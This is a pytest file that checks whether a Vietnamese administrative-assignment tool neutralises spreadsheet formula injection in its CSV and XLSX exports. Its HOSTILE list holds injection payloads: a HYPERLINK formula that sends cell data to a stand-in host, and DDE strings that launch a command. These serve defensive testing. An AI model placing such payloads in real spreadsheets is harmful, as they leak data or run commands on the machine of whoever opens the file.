"""Exports cannot run formulas: names like =HYPERLINK(…) come out as text, and import back."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from danvan.cells import DANGEROUS
from danvan.export import export_assignments
from danvan.graph.embedded import EmbeddedStore
from danvan.graph.store import Store
from danvan.loaders.reference.admin_units import admin_units
from danvan.loaders.spreadsheets.load import import_file
from danvan.loaders.synthetic.generator import national_dataset, write_dataset

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@pytest.fixture
def hostile(tmp_path: Path) -> Store:
    """A synthetic Kon Rẫy store plus assignments of units whose names are formulas."""
    s = EmbeddedStore(tmp_path / "s")
    units = admin_units()
    write_dataset(s, national_dataset(3, villages_per_commune=4, units_per_district=3,
                                      units_per_province=2, communes=[units.commune("23491")]))
    sheet = tmp_path / "hostile.csv"
    with sheet.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Đơn vị", "Thôn/làng", "Xã", "Huyện", "Kế hoạch", "Mô hình"])
        for name in HOSTILE:
            writer.writerow([name, "Thôn 1", "Xã Đăk Pne", "Huyện Kon Rẫy", "84-KH/HU", name])
    report = import_file(s, sheet)
    assert report.ok and report.counts["new"] == len(HOSTILE), report.to_text()
    return s


def test_xlsx_export_holds_no_formula(hostile: Store, tmp_path: Path) -> None:
    out = tmp_path / "phan-cong.xlsx"
    export_assignments(hostile, out)
    ws = openpyxl.load_workbook(out).worksheets[0]  # not data_only: formulas would show as such
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(DANGEROUS)]
    assert "'" + HOSTILE[0] in texts


def test_csv_export_fields_cannot_start_a_formula(hostile: Store, tmp_path: Path) -> None:
    out = tmp_path / "phan-cong.csv"
    export_assignments(hostile, out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        fields = [f for row in csv.reader(fh) for f in row]
    assert not [f for f in fields if f.startswith(DANGEROUS)]
    assert sum(f.startswith("'") for f in fields) >= 2 * len(HOSTILE)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_neutralised_export_imports_back_unchanged(hostile: Store, tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"phan-cong{suffix}"
    export_assignments(hostile, out)
    before = hostile.counts()
    report = import_file(hostile, out)
    hostile_rows = [r for r in report.rows if r.status != "present"]
    assert report.ok and not hostile_rows, report.to_text()
    assert hostile.counts() == before


def test_api_csv_and_cli_exports_share_one_rule() -> None:
    from danvan import cells
    from danvan.api import csv_export, explorer

    assert csv_export.neutralise is cells.neutralise
    assert explorer.neutralise is cells.neutralise
